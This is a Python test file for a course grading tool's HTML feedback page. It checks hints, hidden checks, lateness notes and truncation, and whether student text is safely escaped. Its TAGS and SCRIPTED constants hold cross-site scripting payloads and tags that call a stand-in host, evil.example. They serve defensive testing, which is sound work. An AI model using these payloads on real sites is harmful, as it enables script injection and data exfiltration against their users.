"""`grading.feedback`: a student reads what to do, and can put nothing on the page but text."""

from __future__ import annotations

import json
import shutil
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Page, Request, sync_playwright

from course_utils.grading.feedback import coloured, page
from course_utils.grading.manual import Score, version
from course_utils.grading.pages import LONGEST_TEXT, visible
from course_utils.grading.records import written_answer
from tests.conftest import require
from tests.grading_records import LAB, outcome, record, result, stored
from tests.jupyterlab import QUIET_CHROMIUM

FIRST, SECOND = (check.name for check in LAB.exercises["0.2"].checks[:2])
WRONG = outcome(
    "0.2",
    result(
        "0.2", FIRST, "failed", problem="three words", expected="3", got="4", line="x = 4", cause="Split."
    ),
    result("0.2", SECOND),
)


class Seen(HTMLParser):
    """What a browser would make of a page: its elements with their attributes' names, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag != "span":  # the colours of code depend on the code
            self.elements[tag, tuple(name for name, _ in attributes)] += 1

    def handle_data(self, data):
        self.text += data

    def handle_endtag(self, tag):
        self.text += " " if tag in ("td", "th") else ""


def shown(*outcomes, student="anna", **more):
    return page(record(stored(*outcomes, **more), student), LAB)


def test_first_comes_what_to_do_next():
    begun = outcome("0.3", result("0.3", LAB.exercises["0.3"].checks[0].name, "not_attempted", problem="x"))
    text = Seen(shown(begun, WRONG)).text
    todo = text.partition("What to do next")[2].partition("The exercises")[0]
    assert todo.index("0.2") < todo.index("0.3")
    assert "three words" in todo
    assert "Split." in todo
    assert LAB.exercises["0.3"].hints[0] in todo
    assert "0.1" not in todo
    assert "0.a" in todo  # a question that was not answered


def test_an_exercise_says_what_went_wrong():
    text = Seen(shown(WRONG)).text
    for said in ("not right yet", "Expected", "Your line", "x = 4", "def count_words(sentence)"):
        assert said in text
    for hint in LAB.exercises["0.2"].hints_for(FIRST):
        assert hint in text
    unreached = outcome("0.2", result("0.2", FIRST, "timed_out", problem="still running"))
    text = Seen(shown(unreached)).text
    assert f"not run: {LAB.exercises['0.2'].checks[1].title}" in " ".join(text.split())


def test_all_passed_says_so():
    reflections = {"0.a": "*Your answer:* a", "0.b": "*Your answer:* b"}
    text = Seen(shown(reflections=reflections)).text
    assert "Every check of every exercise passed." in text
    assert "still to be read" in text
    assert "Hint" not in text


def test_what_to_do_next_stays_short():
    html = shown(outcome("0.2", result("0.2", FIRST, "failed", problem="long " * 500, cause="why " * 500)))
    todo = Seen(html).text.partition("What to do next")[2].partition("The exercises")[0]
    assert 2 * 390 < len(todo) < 2 * 400 + 400
    assert "long " * 400 in html


SECRET = {
    name: f"SECRET {name}"
    for name in ("problem", "expected", "got", "line", "cause", "call", "printed", "mistake")
}


@pytest.mark.parametrize("status", ["failed", "errored", "timed_out"])
def test_of_a_hidden_check_there_is_the_name_alone(status):
    hidden = result("0.2", "secret_function", status, hidden=True, **SECRET)
    html = shown(outcome("0.2", result("0.2", FIRST), hidden))
    assert "title of secret_function" in html
    assert "(hidden)" in html
    assert "SECRET" not in html
    assert "secret_function" not in html.replace("title of secret_function", "")


def test_notes_and_reflections_are_there():
    cell = "**0.a** Why? *Your answer:*\n\nBecause of *this*."
    text = Seen(shown(notes=["exercise 0.1 has 2 answer cells"], reflections={"0.a": cell})).text
    assert "exercise 0.1 has 2 answer cells" in text
    assert "Because of *this*." in text
    assert "Why?" not in text
    assert written_answer("my own text, the question deleted") == "my own text, the question deleted"


def test_what_was_given_by_hand_is_there_with_its_comment():
    text = "*Your answer:* Because."
    given = Score("anna", "0.a", "a" * 64, version(text), 0.5, "Say <why>.", "the grader")
    seen = Seen(page(record(stored(reflections={"0.a": text, "0.b": text}), scores=(given,)), LAB)).text
    assert "question 0.a: 0.5 of 1 point" in seen
    assert "question 0.b: waits to be read" in seen
    assert "Say <why>." in seen
    assert "newer" not in seen
    old = replace(given, version="of another text")
    again = Seen(page(record(stored(reflections={"0.a": text}), scores=(old,)), LAB)).text
    assert "your text is newer than that and will be read again" in again


def test_lateness_is_told_with_what_it_costs():
    late = record(stored(WRONG))
    late = replace(late, total=replace(late.total, penalty=0.35, note="2 days late: -10%"))
    seen = Seen(page(late, LAB)).text
    assert "−0.35 for lateness" in seen
    assert "Handed in 2026-11-21 17:03 UTC." in seen
    assert "2 days late: -10%." in seen
    assert "for lateness" not in Seen(shown(WRONG)).text


def test_a_long_answer_is_cut():
    html = shown(answers={"0.1": "x = 1\n" * 90_000, "0.2": "y" * 500_000})
    assert len(html) < 10 * LONGEST_TEXT
    assert "more characters are not shown" in html


@given(st.text(st.characters(codec=None)))
def test_colours_change_no_letter(source):
    assert "".join(text for _, text in coloured(source)) == source.replace("\r\n", "\n").replace(
        "\r", "\n"
    ).removeprefix("\ufeff")


TAGS = (
    "<script>alert(1)</script>",
    "</code></pre></details><img src=x onerror=alert(1)>",
    "</style><style>*{}",
    "<!--",
    "-->",
    "]]>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='x",
    "&lt;",
    "&#x3c;script&#x3e;",
    "javascript:alert(1)",
    "<meta http-equiv=refresh content=0>",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "</title><base href=//x>",
    "<svg onload=alert(1)>",
    "\x00<\x00script>",
    "\ud83d",
    "\u202e",
    "<plaintext>",
    "<textarea>",
)
HOSTILE = st.one_of(st.sampled_from(TAGS), st.text(st.characters(codec=None)), st.text("<>&\"'/=! -az\x00\n"))


def page_of(text: str) -> str:
    """A page with this text wherever a student's can get to."""
    said = dict.fromkeys(("problem", "expected", "got", "line", "cause", "call", "printed", "mistake"), text)
    wrong = outcome("0.2", result("0.2", FIRST, "failed", **said), result("0.2", SECOND, "errored", **said))
    full = stored(
        wrong, notes=[text], answers=dict.fromkeys(LAB.exercises, text), reflections={"0.a": f"x{text}"}
    )
    return page(record(json.loads(json.dumps(full)), f"s{text}"[:200]), LAB)


@given(text=HOSTILE)
def test_the_page_has_the_elements_of_the_template_and_no_others(text):
    text = f"a{text}b"  # nothing at all has no element either
    seen = Seen(page_of(text))
    assert seen.elements == Seen(page_of("harmless")).elements
    assert visible(text).strip() in seen.text


SCRIPTED = """
</code></pre></dd></dl></details></article></main>
<script>document.title = "forged"; fetch("https://evil.example/script")</script>
<img src="https://evil.example/picture" onerror="document.title = 'forged'">
<a href="javascript:document.title='forged'">a hint for free</a>
<style>body { background: url(https://evil.example/style) }</style>
<link rel=stylesheet href="https://evil.example/sheet"><iframe src="https://evil.example/frame"></iframe>
<svg><script href="https://evil.example/svg"></script></svg><object data="https://evil.example/object"></object>
"""
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">'


@pytest.fixture
def chromium() -> str:
    found = shutil.which("chromium")
    require(found, "install Chromium (on Debian: apt-get install chromium) to open feedback in a browser")
    return str(found)


@contextmanager
def in_chromium(chromium: str, html: str, path: Path) -> Iterator[Page]:
    """A page in a browser, which must ask for nothing besides itself."""
    path.write_text(html, encoding="utf-8")
    asked: list[Request] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium, args=QUIET_CHROMIUM, chromium_sandbox=False
        )
        tab = browser.new_page()
        tab.on("request", lambda request: asked.append(request))
        tab.goto(path.as_uri())
        yield tab
        tab.wait_for_timeout(300)
        # What the policy stops is not sent; without a policy the name would be looked up and not be found.
        sent = [each.url for each in asked if each.failure != "csp"]
        assert sent == [path.as_uri()]
        browser.close()


@pytest.mark.browser
def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(chromium, tmp_path):
    html = page_of("\n".join([*TAGS, SCRIPTED, REFRESH]))
    with in_chromium(chromium, html, tmp_path / "page.html") as tab:
        assert tab.locator("script, img, iframe, link, object, svg, [onmouseover], [onerror]").count() == 0
        assert tab.locator("a:not([href^='#'])").count() == 0
        assert tab.locator("meta[http-equiv=refresh]").count() == 0
        assert tab.evaluate("getComputedStyle(document.body).maxWidth") == "832px"  # our own style is allowed
        assert tab.title().startswith("Lab 00: feedback for s")


@pytest.mark.browser
def test_where_all_escaping_failed_the_policy_still_holds(chromium, tmp_path):
    html = page_of("HERE").replace("<h2", f"{SCRIPTED}<h2", 1)
    with in_chromium(chromium, html, tmp_path / "page.html") as tab:
        assert tab.locator("script").count() == 2
        tab.get_by_text("a hint for free").click()
        assert tab.title() == "Lab 00: feedback for sHERE"
